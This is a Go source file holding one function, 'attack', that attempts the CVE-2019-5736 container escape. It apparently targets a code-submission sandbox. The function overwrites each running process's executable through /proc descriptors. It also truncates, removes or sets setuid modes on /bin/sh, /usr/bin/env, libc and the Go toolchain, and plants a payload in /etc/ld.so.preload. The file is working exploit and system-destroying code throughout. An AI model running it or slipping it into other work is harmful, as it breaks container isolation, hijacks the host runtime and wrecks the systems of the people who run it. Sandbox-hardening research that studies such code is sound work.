package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// Overwrites programs while others run them, the one that runs the container
// above all (CVE-2019-5736).
func attack(where string) {
	if where == "host" {
		nested("nested")
	}
	dirs, _ := os.ReadDir("/proc")
	for _, d := range dirs {
		exe := "/proc/" + d.Name() + "/exe"
		// By a descriptor that is opened again when the program no longer runs.
		if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
			put(fmt.Sprint("/proc/self/fd/", fd), evil)
			unix.Close(fd)
		} else if d.Name() == "1" {
			tried("open the program of init", err)
		}
	}
	for _, path := range []string{"/proc/self/exe", "/proc/1/exe", "/submission/main", "/bin/sh", "/usr/bin/env", "/usr/local/go/bin/go", "/usr/lib/x86_64-linux-gnu/libc.so.6"} {
		put(path, evil)
		tried("truncate "+path, os.Truncate(path, 0))
		tried("chmod "+path, os.Chmod(path, 0o6777))
		tried("remove "+path, os.Remove(path))
	}
	for _, path := range []string{"/usr/bin/" + evil, "/etc/ld.so.preload", "/usr/local/go/bin/" + evil, "/" + evil, "/submission/" + evil} {
		tried("create "+path, os.WriteFile(path, []byte(evil), 0o755))
	}
}
